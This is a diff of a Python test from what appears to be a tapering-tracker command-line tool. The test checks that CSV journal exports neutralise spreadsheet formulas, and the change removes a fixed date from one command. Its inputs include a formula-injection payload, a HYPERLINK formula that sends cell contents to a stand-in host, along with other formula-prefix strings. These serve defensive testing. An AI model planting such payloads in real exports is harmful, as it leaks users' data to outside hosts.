@@ -342,7 +342,7 @@ def test_csv_exports_cannot_carry_a_spreadsheet_formula(
     save_lorazepam_plan(tmp_path)
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
     for text in (formula, "+1+1", "@SUM(A1:A2)", "-2+3"):
-        noted = benzotaper("note", "--date", "2026-12-02", "--", text, cwd=tmp_path)
+        noted = benzotaper("note", "--", text, cwd=tmp_path)  # today: no entry is future-dated
         assert noted.exit_code == 0, noted.output
     out = benzotaper("export", "-f", "csv", "--csv-kind", "journal", "--active", cwd=tmp_path)
     assert out.exit_code == 0, out.output
